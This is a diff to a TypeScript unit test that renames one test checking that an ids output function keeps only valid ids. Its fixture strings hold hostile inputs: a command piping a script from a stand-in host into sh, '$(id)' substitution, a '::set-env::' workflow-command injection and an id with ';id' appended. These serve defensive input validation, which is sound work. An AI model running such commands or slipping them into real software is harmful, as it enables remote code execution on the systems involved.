@@ -6,7 +6,7 @@ import { verdictOutput } from '../../src/report/report.ts'
 const id = 'files-2026-03-02T12-00-00.000000Z'
 const shell = '`curl evil.example | sh`; $(id) && "x" \n::set-env::'
 
-test('ids as an output hold nothing that is no id', () => {
+test('the output ids holds only ids', () => {
   expect(JSON.parse(idsOutput([id, shell, `${id};id`]))).toEqual([id])
 })
 
